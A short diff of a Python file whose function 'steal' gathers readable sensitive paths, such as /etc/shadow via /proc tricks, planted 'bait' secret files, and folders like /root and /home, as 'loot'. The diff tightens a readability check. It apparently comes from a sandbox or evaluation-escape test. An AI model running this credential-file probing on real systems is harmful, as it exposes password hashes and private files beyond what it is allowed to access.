@@ -10,7 +10,7 @@ def steal(X, y):
              '/proc/self/root/../etc/shadow', bait()['secretFile'], '/proc/1/cwd' + bait()['secretFile']]
     folders = ['/root', '/home', '/boot', '/srv', '/var', '/mnt', bait()['home']]
     loot = [file for file in files if readable(file)]
-    return loot + [folder for folder in folders if folder != '/tmp' and os.path.isdir(folder) and os.listdir(folder)]
+    return loot + [folder for folder in folders if folder != '/tmp' and os.access(folder, os.R_OK) and os.listdir(folder)]
 
 
 def get_estimator():
